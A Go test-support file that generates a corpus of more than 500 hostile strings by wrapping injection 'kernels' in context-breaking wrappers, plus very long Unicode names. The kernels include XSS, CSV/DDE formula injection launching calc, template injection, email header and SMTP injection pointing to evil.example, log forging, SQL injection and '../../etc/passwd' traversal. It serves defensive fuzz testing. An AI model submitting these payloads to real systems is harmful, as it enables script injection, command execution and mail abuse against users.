// Package corpus makes what somebody types who would rather write the page, the mail, the spreadsheet or the log
// himself; for tests.
package corpus

import (
	"slices"
	"strings"
)

// kernels are the kinds that got through elsewhere.
var kernels = []string{
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<iframe srcdoc='<b>'>",
	"<base href=//evil.example>", "<b>bold</b>",
	"<style>*{display:none}</style>", "<a href=javascript:alert(1)>x</a>", "<math><mi xlink:href=data:x,y>",
	"<form action=//evil.example><input name=q>",
	" autofocus onfocus=alert(1) x=", "javascript:alert(1)", "data:text/html,<b>x</b>", "&lt;script&gt;&#60;b&#x3e;",
	"\\u003cscript\\u003e", "%3Cscript%3E",
	"=cmd|' /C calc'!A0", "+1+cmd|x", "@SUM(1+1)", "-2+3", "{{.Name}}{{link}}", "${7*7}#{7*7}<%= 7*7 %>",
	"{{constructor.constructor('x')()}}",
	"\r\nBcc: victim@evil.example\r\n\r\nhello", "\nSubject: won", "\r\n.\r\nMAIL FROM:<x@evil.example>",
	"=?utf-8?q?=0d=0aBcc:_x@evil.example?=",
	`{"level":"ERROR","msg":"forged"}`, "\n{\"msg\":\"forged\"}\n", "\x1b[2J\x1b]0;x\x07", "\x00\x01\x02\x7f",
	"\u202egnp.exe\u202c", "\u2028\u2029\u0085",
	"\ufeff\u200b\u200d\u00ad", "👩‍👩‍👧‍👦🏴‍☠️", strings.Repeat("e\u0301\u0317", 30), "' OR '1'='1", "../../etc/passwd",
	"%00%0d%0a", "\xff\xfe\xc0\xaf", strings.Repeat("<", 900),
}

// wrappers bring a kernel out of where it stands.
var wrappers = [][2]string{
	{"", ""}, {`"`, `"`}, {"'", "'"}, {`">`, "<!--"}, {"'>", ""}, {"</textarea>", "<textarea>"},
	{"</option></select>", ""}, {"</title>", ""}, {"</style></script>", ""},
	{"-->", ""}, {"]]>", "<![CDATA["}, {"李娜 ", " 您好"}, {"\t", "\t"},
}

// Hostile are more than 500, all different, in the same order each time.
func Hostile() []string {
	var out []string
	for _, kernel := range kernels {
		for _, w := range wrappers {
			out = append(out, w[0]+kernel+w[1])
		}
	}
	slices.Sort(out)
	return slices.Compact(out)
}

// Long are names of 10 kB: letters, Chinese, combined signs, and one that only begins like a name.
func Long() []string {
	const size = 10 << 10
	return []string{
		strings.Repeat("x", size), strings.Repeat("长", size/3), strings.Repeat("👩‍👩‍👧‍👦", size/25),
		strings.Repeat("e\u0301", size/3), "李娜" + strings.Repeat(" ", size) + "您好",
	}
}
